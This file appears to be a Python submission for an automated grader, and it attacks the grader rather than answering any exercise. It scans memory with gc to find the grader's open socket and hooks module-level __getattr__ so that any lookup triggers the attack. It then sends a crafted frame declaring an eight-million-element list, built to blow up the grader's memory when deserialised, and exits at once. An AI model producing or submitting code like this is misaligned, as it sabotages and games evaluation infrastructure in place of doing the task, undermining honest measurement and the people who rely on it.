"""Answers with a frame of eight million integers, each of which takes forty times its bytes."""

import gc
import os
import socket
import struct

from grader.channel import send_frame

EXERCISE = "any"
LINK = next(each for each in gc.get_objects() if isinstance(each, socket.socket))


def __getattr__(name):
    inside = b"\xdd" + struct.pack(">I", 8_000_000) + b"\xa4list" + b"\xe0" * 7_999_999
    send_frame(LINK, b"a\2\0\0\0" + b"\x92\x90\x93\xa5tuple\xa5value" + inside)
    os._exit(0)
